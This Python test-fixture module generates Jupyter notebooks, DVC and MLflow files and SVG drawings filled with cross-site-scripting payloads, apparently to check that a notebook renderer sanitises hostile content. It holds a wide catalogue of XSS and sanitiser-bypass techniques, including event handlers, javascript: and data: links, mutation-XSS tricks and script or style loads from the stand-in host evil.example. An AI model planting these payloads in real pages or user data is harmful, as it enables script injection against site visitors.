"""Notebooks that try to run scripts: each would call `alert("ran")` or send a request to `evil.example`."""

from __future__ import annotations

import base64
import json
from typing import Any

RUN = "alert('ran')"
_JS = f"javascript:{RUN}"
_SCRIPT = f"<script>{RUN}</script>"
_IMG = f'<img src="x" onerror="{RUN}">'
_HTML_URL = "data:text/html;base64," + base64.b64encode(_SCRIPT.encode()).decode()
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script><path d="M0 0L9 9"/></svg>'
_SVG_URL = "data:image/svg+xml;base64," + base64.b64encode(_SVG.encode()).decode()


def _text(source: str, **more: Any) -> dict[str, Any]:
    return {"cell_type": "markdown", "metadata": {}, "source": source, **more}


def _shown(**bundle: Any) -> dict[str, Any]:
    """Return a code cell with an output; `text_html` is `text/html`."""
    data = {kind.replace("_", "/", 1).replace("svg", "svg+xml"): value for kind, value in bundle.items()}
    return _code({"output_type": "display_data", "metadata": {}, "data": data})


def _code(*outputs: dict[str, Any], source: str = "1", **more: Any) -> dict[str, Any]:
    return {"cell_type": "code", "execution_count": 1, "metadata": {}, "source": source, "outputs": [*outputs], **more}


def _error(name: str, value: str, *trace: str) -> dict[str, Any]:
    return _code({"output_type": "error", "ename": name, "evalue": value, "traceback": [*trace]})


CELLS: dict[str, dict[str, Any]] = {
    # Markdown cells
    "md-script": _text(f"a {_SCRIPT} b"),
    "md-script-block": _text(f"{_SCRIPT}\n\ntext"),
    "md-script-split": _text(f"<scr<script>x</script>ipt>{RUN}</scr</script>ipt>"),
    "md-script-uri": _text('<script src="https://evil.example/x.js"></script>'),
    "md-module": _text(f'<script type="module">{RUN}</script>'),
    "md-handler": _text(f"{_IMG}\n\n<div onmouseover={RUN} onclick={RUN}>over</div>"),
    "md-handler-slash": _text(f"<img/src=x/onerror={RUN}>\n\n<p/onclick={RUN}>p</p>"),
    "md-handler-newline": _text(f'<img src="x"\nonerror\n=\n"{RUN}">'),
    "md-link": _text(f"[a]({_JS}) [b](<{_JS}>) [c][d]\n\n[d]: {_JS}\n\n<{_JS}>"),
    "md-link-hidden": _text(f'[a](java&#115;cript:{RUN}) [b](&#1;javascript:{RUN}) <a href="java\tscript:{RUN}">c</a>'),
    "md-link-data": _text(f"[a]({_HTML_URL}) [b]({_SVG_URL}) ![c]({_SVG_URL})"),
    "md-link-vbscript": _text(f'<a href="vbscript:{RUN}">a</a> <a href="blob:{RUN}">b</a> <a href="{_JS}//%0a1">c</a>'),
    "md-attributes": _text(f'[a](x){{: onclick="{RUN}" }} ![b](x){{ onerror="{RUN}" }}\n\n## H {{ onclick="{RUN}" }}'),
    "md-heading-id": _text('## One { id=\'x" onmouseover="alert(1)" data-x="\' }\n\n## Two\n\ntext'),
    "md-heading-label": _text(f"## One {{ data-toc-label='{_IMG.replace(chr(39), '')}' }}\n\n## {_IMG} two\n\ntext"),
    "md-heading-entity": _text(f"## &lt;img src=x onerror={RUN}&gt;\n\n## `{_IMG}`\n\ntext"),
    "md-title": _text(f"# {_IMG} {_SCRIPT} title\n\ntext"),
    "md-frame": _text(f'<iframe src="{_JS}"></iframe>\n\n<iframe srcdoc="{_SCRIPT}"></iframe>'),
    "md-object": _text(f'<object data="{_HTML_URL}"></object><embed src="{_JS}"><applet code="x"></applet>'),
    "md-form": _text(f'<form action="{_JS}"><button>go</button><input type=submit formaction="{_JS}"></form>'),
    "md-focus": _text(f'<input autofocus onfocus="{RUN}"><select onfocus={RUN} autofocus></select>'),
    "md-meta": _text(f'<meta http-equiv="refresh" content="0;url={_HTML_URL}">\n\n<base href="https://evil.example/">'),
    "md-style": _text(
        "<style>@import 'https://evil.example/x.css';</style>\n\n<link rel=stylesheet href=//evil.example>"
    ),
    "md-css": _text('<p style="background:url(https://evil.example/x);behavior:url(x);position:fixed">a</p>'),
    "md-svg": _text(f'{_SVG}\n\n<svg><a xlink:href="{_JS}"><text y=9>a</text></a></svg>'),
    "md-animate": _text(f'<svg><a><animate attributeName=href values="{_JS}"/><text y=9>a</text></a></svg>'),
    "md-mathml": _text(f'<math><mi xlink:href="{_JS}">a</mi><maction actiontype="x" href="{_JS}">b</maction></math>'),
    "md-mxss": _text(
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">\n\n'
        f'<svg></p><style><a id="</style>{_IMG.replace(chr(34), "")}">\n\n<noscript><p title="</noscript>{_IMG}">'
    ),
    "md-comment": _text(f"<!--> {_IMG} -->\n\n<!-- --!> {_IMG} -->\n\n<![CDATA[ {_IMG} ]]>\n\n<?x {_IMG} ?>"),
    "md-details": _text(f"<details open ontoggle={RUN}><summary onclick={RUN}>a</summary>\n\n{_SCRIPT}\n\n</details>"),
    "md-media": _text(f'<video onloadstart="{RUN}" src=x autoplay></video><audio src=x onerror={RUN}></audio>'),
    "md-template": _text(f"<template><p>{_IMG}</template><div><template shadowrootmode=open>{_IMG}</template></div>"),
    "md-clobber": _text(
        '<div id="__config">{"base": "https://evil.example", "search": "data:text/javascript,1"}</div>\n\n'
        '<img name="currentScript" src="data:image/png;base64,AAAA"><a id="__md_scope" href="https://evil.example/">a</a>'
    ),
    "md-latex": _text(f"$\\href{{{_JS}}}{{a}}$\n\n$$\\htmlData{{x=1}}{{b}} \\unicode{{<img src=x onerror={RUN}>}}$$"),
    "md-fence": _text(f'```{{.html onclick="{RUN}" title="{_IMG}"}}\nx\n```\n\n```mermaid\ngraph LR; a["{_IMG}"]\n```'),
    "md-footnote": _text(f'a[^1]\n\n[^1]: {_IMG} [b]({_JS})\n\n*[HTML]: x" onmouseover="{RUN}\n\nHTML'),
    "md-admonition": _text(f'!!! note "{_IMG}"\n    {_SCRIPT}\n\n> [!NOTE]\n> {_IMG}'),
    "md-unclosed": _text(f"<script>{RUN}\n\n<a href='{_JS}'\n\n<img src=x onerror={RUN} \n"),
    "md-attachment": _text(
        "![a](attachment:a.svg) ![b](attachment:b.html)",
        attachments={"a.svg": {"image/svg+xml": _SVG}, "b.html": {"text/html": _SCRIPT}},
    ),
    "md-attachment-name": _text(
        f'![" onerror="{RUN}](attachment:a.png) ![b](attachment:"onerror={RUN})',
        attachments={"a.png": {"image/png": "AAAA", "text/plain": _IMG}, f'"onerror={RUN}': {"image/png": "AAAA"}},
    ),
    # Outputs
    "out-html": _shown(text_html=f"<p>a</p>{_SCRIPT}{_IMG}<a href='{_JS}'>b</a><a href='{_HTML_URL}'>c</a>"),
    "out-html-frame": _shown(
        text_html=f'<p>a</p><iframe srcdoc="{_SCRIPT}"></iframe><object data="{_SVG_URL}"></object>'
    ),
    "out-html-end": _shown(text_html=f"<p>a</p></div></article></body>\n\n{_SCRIPT}\n\n[b]({_JS}) {_IMG}"),
    "out-html-quotes": _shown(text_html=f"<table><tr><td title='\"><img src=x onerror={RUN}>'>a</td></tr></table>"),
    "out-html-template": _shown(
        text_html=f"<p>a</p><template>{_IMG}</template><noscript><p title='</noscript>{_IMG}'>"
    ),
    "out-svg": _shown(image_svg=_SVG, text_plain="x"),
    "out-svg-link": _shown(image_svg=_SVG.replace("<path", f'<a href="{_JS}"><rect width="9" height="9"/></a><path')),
    "out-svg-foreign": _shown(
        image_svg=f"<svg><foreignObject><body>{_IMG}</body></foreignObject><path d='M0 0'/></svg>"
    ),
    "out-svg-style": _shown(image_svg=f"<svg><style><![CDATA[</style>{_SCRIPT}]]></style><path d='M0 0'/></svg>"),
    "out-svg-entity": _shown(image_svg=f'<!DOCTYPE svg [<!ENTITY x "{_SCRIPT}">]><svg><path d="M0 0"/>&x;</svg>'),
    "out-png": _shown(image_png=base64.b64encode(_SCRIPT.encode()).decode(), text_plain=f'" onerror="{RUN}'),
    "out-javascript": _shown(application_javascript=RUN, text_plain=_IMG),
    "out-vega": _shown(
        **{"application_vnd.vegalite.v5+json": {"$schema": _JS, "usermeta": {"x": _IMG}}}, text_plain=_IMG
    ),
    "out-plotly": _shown(
        **{"application_vnd.plotly.v1+json": {"data": [{"text": _IMG}]}}, text_html=f"<div>{_SCRIPT}</div>"
    ),
    "out-widget": _shown(
        **{"application_vnd.jupyter.widget-view+json": {"model_id": _IMG}}, text_plain=f"HTML({_IMG})"
    ),
    "out-markdown": _shown(text_markdown=f"{_IMG} [a]({_JS}) {_SCRIPT}"),
    "out-latex": _shown(text_latex=f"$\\href{{{_JS}}}{{a}}$ {_IMG}"),
    "out-plain": _shown(text_plain=f"</pre>{_IMG}\n\n{_SCRIPT}"),
    "out-stream": _code({"output_type": "stream", "name": _IMG, "text": f"</pre>\n\n{_SCRIPT}\x1b[31m{_IMG}\x1b[0m"}),
    "out-error": _error(
        _IMG, _SCRIPT, f"\x1b[0;31m{_IMG}\x1b[0m", f"\x1b]8;;{_JS}\x07link\x1b]8;;\x07", f"</pre>{_SCRIPT}"
    ),
    "out-error-bare": _error(f"</pre>{_IMG}", _SCRIPT),
    # Code, raw cells and metadata
    "code-source": _code(source=f"```\n{_IMG}\n````\n{_SCRIPT}\n</code></pre>{_IMG}"),
    "code-count": _code({"output_type": "stream", "name": "stdout", "text": "x"}, execution_count=_IMG),
    "raw-html": {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": f"{_SCRIPT}{_IMG}"},
    "cell-metadata": _text("text", id=_IMG) | {"metadata": {"name": _IMG, "tags": [_IMG], "jupyter": {"x": _SCRIPT}}},
}
"""One hostile cell by the name of its notebook."""

_METADATA = {
    "title": _IMG,
    "authors": [{"name": _SCRIPT}],
    "language_info": {"name": f'python" onclick="{RUN}', "mimetype": _IMG, "pygments_lexer": _IMG},
    "kernelspec": {"name": _IMG, "language": f"x>{_IMG}", "display_name": _SCRIPT},
    "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": {"state": {"value": _SCRIPT}}}}},
}


def write_hostile_notebooks() -> dict[str, str]:
    """Return the texts of all hostile notebooks by file name; the last one holds every cell."""
    everything = [cell for name, cell in CELLS.items() if name != "md-title"]
    books = {name: [cell] for name, cell in CELLS.items()} | {"everything": everything}
    return {f"{name}.ipynb": _write(name, cells) for name, cells in books.items()}


def _write(name: str, cells: list[dict[str, Any]]) -> str:
    marked = [*([] if name == "md-title" else [_text(f"# Page {name}")]), *cells, _text("The last words.")]
    return json.dumps({"nbformat": 4, "nbformat_minor": 4, "metadata": _METADATA, "cells": marked})


def write_hostile_stores() -> dict[str, str]:
    """Return files of DVC and MLflow with hostile names and values, by path in a project."""
    run = "mlruns/1/0123456789abcdef0123456789abcdef"
    meta = {"run_id": run[-32:], "run_name": _IMG, "status": 3, "start_time": 1, "end_time": 2, "experiment_id": "1"}
    return {
        "metrics.json": json.dumps({_IMG: 0.5, f"f1{_SCRIPT}": 0.9, "loss": _IMG, "a|b": 1, "nested": {_SCRIPT: 2}}),
        "params.yaml": json.dumps({"lr": _IMG, _IMG: 1, "list": [_SCRIPT]}),
        "dvc.yaml": json.dumps({"stages": {_IMG: {"cmd": _SCRIPT}}, "metrics": ["metrics.json"], "plots": [_IMG]}),
        "dvclive/metrics.json": json.dumps({"step": 3, _IMG: 1.5}),
        "dvclive/plots/metrics/loss.tsv": f"step\t{_IMG}\n0\t1\n1\t2\n2\t{_SCRIPT}\n",
        "mlruns/1/meta.yaml": json.dumps({"experiment_id": "1", "name": _IMG}),
        f"{run}/meta.yaml": json.dumps(meta),
        f"{run}/metrics/loss": "1 0.5 0\n2 0.25 1\n",
        f"{run}/params/<img src=x onerror=alert(1)>": _IMG,
        f"{run}/tags/mlflow.runName": _SCRIPT,
        f"{run}/tags/mlflow.note.content": _IMG,
    }


def write_hostile_drawings() -> dict[str, str]:
    """Return SVG files that run scripts when opened on their own."""
    ns = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    page = f'<body xmlns="http://www.w3.org/1999/xhtml">{_SCRIPT}</body>'
    inside = {
        "script": _SCRIPT,
        "handler": f'<rect width="9" height="9" onmouseover="{RUN}" onclick="{RUN}"/>',
        "link": f'<a xlink:href="{_JS}"><rect width="9" height="9"/></a>',
        "foreign": f"<foreignObject width='9' height='9'>{page}</foreignObject>",
        "set": f'<a><set attributeName="href" to="{_JS}"/><rect width="9" height="9"/></a>',
        "begin": f'<rect><animate attributeName="x" dur="1s" onbegin="{RUN}"/></rect>',
        "elsewhere": '<image href="http://evil.example/x.png"/><style>@import "http://evil.example/x.css";</style>',
    }
    drawings = {name: f"<svg {ns} onload=\"{RUN}\">{body}<path d='M0 0'/></svg>" for name, body in inside.items()}
    return {f"{name}.svg": text for name, text in drawings.items()} | {"page.svg": f"<html>{page}</html>"}
